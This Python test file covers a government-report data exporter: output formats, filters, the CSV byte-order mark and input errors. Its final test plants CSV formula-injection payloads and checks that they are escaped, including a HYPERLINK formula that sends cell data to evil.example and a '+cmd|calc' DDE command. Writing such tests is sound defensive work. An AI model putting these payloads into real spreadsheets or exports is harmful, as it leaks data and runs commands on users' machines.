"""`govreports export`: tidy files from the views on SQLite and PostgreSQL, filters, BOM,
parquet, the data dictionary, and clear errors for bad input.

Numbers are those of the seed reports, typed once in tests/seeds/expected.toml: seed 002 (诸城市
2017: 主动公开 of the 市本级 and 本行政区域 tables, 收到申请 in both) and seed 000 (东营市 2019:
政府集中采购 projects and amount in 万元; 行政复议 in the prose)."""

from __future__ import annotations

import csv
import json
import sys

import pytest
from sqlalchemy import text
from sqlalchemy.orm import Session

from crawler.analysis.export import DICTIONARY, FILES, ExportError, Filters, export
from crawler.cli import main
from crawler.errors import MissingExtra
from crawler.storage import db
from crawler.storage.store import ReportWriter
from tests.seednumbers import numbers, value
from tests.test_views import seed_item, zhucheng_2017

DONGYING_URL = "http://www.dongying.gov.cn/art/2020/2/27/art_164458_841.html"


def dongying_2019():
    return seed_item(
        "000", spider="dongying", url=DONGYING_URL, body_name="东营市人民政府", body_level="city", region_code="370500"
    )


def fill(url: str) -> None:
    engine = db.ensure_schema(url)
    with Session(engine) as session, session.begin():
        writer = ReportWriter(session)
        writer.write(zhucheng_2017())
        writer.write(dongying_2019())
    engine.dispose()


@pytest.fixture
def seeded(database_url) -> str:
    fill(database_url)
    return database_url


@pytest.fixture
def sqlite_seeded(tmp_path) -> str:
    url = f"sqlite:///{tmp_path}/seeded.db"
    fill(url)
    return url


def run_export(url, out, fmt="csv", filters: Filters | None = None, **kw):
    engine = db.make_engine(url)
    try:
        return {w.path.name: w.rows for w in export(engine, out, fmt, filters or Filters(), **kw)}
    finally:
        engine.dispose()


def read_csv(path) -> list[dict]:
    with path.open(encoding="utf-8", newline="") as f:
        return list(csv.DictReader(f))


def test_csv_export_writes_tidy_files_the_same_on_both_databases(seeded, tmp_path):
    out = tmp_path / "out"
    counts = run_export(seeded, out)
    assert counts["reports.csv"] == 2
    reports = {r["body"]: r for r in read_csv(out / "reports.csv")}
    zhucheng = reports["诸城市人民政府"]
    assert (zhucheng["year"], zhucheng["published_at"], zhucheng["template"]) == ("2017", "2018-03-29", "legacy")
    assert (
        zhucheng["proactive_total"],
        zhucheng["applications"],
        zhucheng["review_total"],
        zhucheng["litigation_total"],
    ) == tuple(
        numbers("002", "region")[c].printed
        for c in ("proactive.total", "applications.received", "review.total", "litigation.total")
    )
    assert (reports["东营市人民政府"]["review_total"], reports["东营市人民政府"]["applications"]) == (
        numbers("000", "prose")["review.total"].printed,
        "",
    )

    values = read_csv(out / "metric_values.csv")
    assert counts["metric_values.csv"] == len(values)
    proactive = sorted((r["scope"], r["value"]) for r in values if r["code"] == "proactive.total")
    assert proactive == [(scope, numbers("002", scope)["proactive.total"].printed) for scope in ("region", "self")]
    (amount,) = [r for r in values if r["code"] == "art20.procurement.amount"]
    procured = numbers("000", "table")["art20.procurement.amount"]
    assert (amount["value"], amount["unit"], amount["raw_value"], amount["scope"]) == (
        procured.printed,
        procured.unit,
        f"{procured.printed}{procured.unit}",
        "",
    )
    (projects,) = [r for r in values if r["code"] == "art20.procurement.projects"]
    # an integer never prints as 1088.0 or 1088.000000
    assert projects["value"] == numbers("000", "table")["art20.procurement.projects"].printed

    dictionary = {r["code"]: r for r in read_csv(out / "dictionary.csv")}
    assert dictionary["apps.new"]["label_zh"] == "一、本年新收政府信息公开申请数量"
    assert (dictionary["apps.new"]["unit"], dictionary["apps.new"]["dimensions"]) == ("件", "applicant")
    readme = (out / "README.md").read_text("utf-8")
    assert "| litigation_total | number |" in readme and "| metric_values.csv |" in readme


def test_the_files_have_the_columns_of_their_views(sqlite_seeded, tmp_path):
    engine = db.make_engine(sqlite_seeded)
    with engine.connect() as conn:
        for view, columns in FILES.values():
            assert list(conn.execute(text(f"SELECT * FROM {view}")).keys()) == [c.name for c in columns], view
    engine.dispose()
    run_export(sqlite_seeded, tmp_path)
    with (tmp_path / "dictionary.csv").open(encoding="utf-8") as f:
        assert next(csv.reader(f)) == [c.name for c in DICTIONARY]


def test_filters_select_reports_values_and_findings(sqlite_seeded, tmp_path):
    counts = run_export(sqlite_seeded, tmp_path / "review", filters=Filters(metric="review.total"))
    values = read_csv(tmp_path / "review" / "metric_values.csv")
    assert sorted((r["body"], r["year"], r["scope"], r["value"]) for r in values) == [
        ("东营市人民政府", "2019", "", "10"),
        ("诸城市人民政府", "2017", "region", "2"),
        ("诸城市人民政府", "2017", "self", "2"),
    ]
    assert counts["reports.csv"] == 2

    counts = run_export(sqlite_seeded, tmp_path / "amount", filters=Filters(metric="art20.procurement.amount"))
    assert (counts["reports.csv"], counts["metric_values.csv"]) == (1, 1)

    run_export(sqlite_seeded, tmp_path / "zc", filters=Filters(spider="zhucheng", year=2017))
    assert {r["body"] for r in read_csv(tmp_path / "zc" / "metric_values.csv")} == {"诸城市人民政府"}
    counts = run_export(sqlite_seeded, tmp_path / "none", filters=Filters(spider="zhucheng", year=2019))
    assert (counts["reports.csv"], counts["metric_values.csv"]) == (0, 0)


def test_bom_only_when_asked(sqlite_seeded, tmp_path):
    run_export(sqlite_seeded, tmp_path / "bom", bom=True)
    run_export(sqlite_seeded, tmp_path / "plain")
    assert (tmp_path / "bom" / "reports.csv").read_bytes().startswith(b"\xef\xbb\xbfreport_id,body,")
    assert (tmp_path / "plain" / "reports.csv").read_bytes().startswith(b"report_id,body,")
    assert "诸城市人民政府" in (tmp_path / "bom" / "reports.csv").read_text("utf-8-sig")


def test_jsonl_has_numbers_and_nulls(sqlite_seeded, tmp_path):
    run_export(sqlite_seeded, tmp_path, "jsonl", Filters(metric="art20.procurement.amount"))
    (row,) = [json.loads(line) for line in (tmp_path / "metric_values.jsonl").read_text("utf-8").splitlines()]
    assert (row["body"], row["year"], row["value"], row["scope"], row["applicant"]) == (
        "东营市人民政府",
        2019,
        float(value("000", "table", "art20.procurement.amount")),
        None,
        None,
    )


def test_parquet_keeps_types(sqlite_seeded, tmp_path):
    pq = pytest.importorskip("pyarrow.parquet")
    run_export(sqlite_seeded, tmp_path, "parquet")
    reports = pq.read_table(tmp_path / "reports.parquet").to_pylist()
    (zhucheng,) = [r for r in reports if r["year"] == 2017]
    region = numbers("002", "region")
    assert (zhucheng["proactive_total"], zhucheng["applications"], str(zhucheng["published_at"])) == (
        float(region["proactive.total"].value),
        float(region["applications.received"].value),
        "2018-03-29",
    )
    values = pq.read_table(tmp_path / "metric_values.parquet")
    assert str(values.schema.field("value").type) == "double" and str(values.schema.field("year").type) == "int64"
    assert float(value("000", "table", "art20.procurement.amount")) in values.column("value").to_pylist()


def test_parquet_without_pyarrow_says_how_to_install_it(sqlite_seeded, tmp_path, monkeypatch):
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    monkeypatch.setitem(sys.modules, "pyarrow.parquet", None)
    with pytest.raises(MissingExtra, match=r"pip install 'govreports\[export\]'"):
        run_export(sqlite_seeded, tmp_path, "parquet")


@pytest.mark.parametrize(
    ("filters", "kw", "message"),
    [
        (Filters(metric="review.totl"), {}, r"unknown metric code 'review.totl'; close codes: review.total, "),
        (Filters(metric="apps.result.disclose"), {}, r"close codes: apps.result.disclosed"),
        (Filters(spider="dongyin"), {}, r"unknown spider 'dongyin' \(spiders: .*dongying"),
        (Filters(), {"fmt": "jsonl", "bom": True}, r"--bom is for --format csv only"),
        (Filters(), {"fmt": "xlsx"}, r"unknown format 'xlsx'"),
    ],
)
def test_bad_input_is_refused_before_anything_is_written(sqlite_seeded, tmp_path, filters, kw, message):
    with pytest.raises(ExportError, match=message):
        run_export(sqlite_seeded, tmp_path / "out", filters=filters, **kw)
    assert not (tmp_path / "out").exists()


def test_a_missing_or_old_database_is_refused(tmp_path):
    with pytest.raises(db.DatabaseMissing, match="no database at"):
        run_export(f"sqlite:///{tmp_path}/missing.db", tmp_path / "out")
    assert not (tmp_path / "missing.db").exists()
    old = f"sqlite:///{tmp_path}/old.db"
    db.upgrade(old, "0003")
    with pytest.raises(
        db.SchemaError, match=rf"revision 0003, not {db.head_revision(old)}: run `govreports db upgrade`"
    ):
        run_export(old, tmp_path / "out")


def test_cli_prints_what_it_wrote_and_refuses_bad_input(sqlite_seeded, tmp_path, capsys):
    out = tmp_path / "cli"
    assert main(["export", "--database-url", sqlite_seeded, "--out", str(out), "--year", "2017", "--bom"]) == 0
    printed = capsys.readouterr().out
    assert f"exported csv to {out}:" in printed
    assert f"{out / 'reports.csv'}  1 rows" in printed
    assert (out / "reports.csv").read_bytes().startswith(b"\xef\xbb\xbf")

    assert main(["export", "--database-url", sqlite_seeded, "--out", str(out), "--metric", "litigation.totl"]) == 2
    assert "govreports: unknown metric code 'litigation.totl'; close codes: litigation.total" in capsys.readouterr().err


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_escaped(tmp_path):
    url = f"sqlite:///{tmp_path}/hostile.db"
    engine = db.ensure_schema(url)
    item = zhucheng_2017()
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"诸城市人民政府2017年政府信息公开工作年度报告")'
    item.title = hostile
    with Session(engine) as session, session.begin():
        writer = ReportWriter(session)
        writer.write(item)
        writer.write(dongying_2019())
        session.execute(text("UPDATE bodies SET name = '@SUM(1+1)' WHERE name = '东营市人民政府'"))
        session.execute(text("UPDATE reports SET url = '+cmd|calc' WHERE title = :t"), {"t": hostile})
        session.execute(text("UPDATE report_metrics SET raw_value = '-3' WHERE raw_value = '88'"))
        session.execute(
            text(
                "INSERT INTO validation_findings (report_id, rule, severity, detail) "
                "SELECT id, 'sum', 'warning', char(9) || '=1+1' FROM reports"
            )
        )
    engine.dispose()
    out = tmp_path / "out"
    assert main(["export", "--database-url", url, "--out", str(out)]) == 0
    reports = {r["year"]: r for r in read_csv(out / "reports.csv")}
    assert reports["2017"]["title"] == "'" + hostile
    assert reports["2019"]["body"] == "'@SUM(1+1)"
    assert reports["2017"]["url"] == "'+cmd|calc"
    values = read_csv(out / "metric_values.csv")
    assert "-3" in {r["raw_value"] for r in values}  # a signed plain number is no formula
    assert {r["body"] for r in values} == {"诸城市人民政府", "'@SUM(1+1)"}
    findings = read_csv(out / "findings.csv")
    assert [r["detail"] for r in findings] == ["'\t=1+1", "'\t=1+1"]
    assert "is written with a ' in front" in (out / "README.md").read_text("utf-8")
    # the other formats keep the values as stored
    assert main(["export", "--database-url", url, "--out", str(tmp_path / "j"), "--format", "jsonl"]) == 0
    rows = [json.loads(line) for line in (tmp_path / "j" / "reports.jsonl").read_text("utf-8").splitlines()]
    assert hostile in {r["title"] for r in rows}
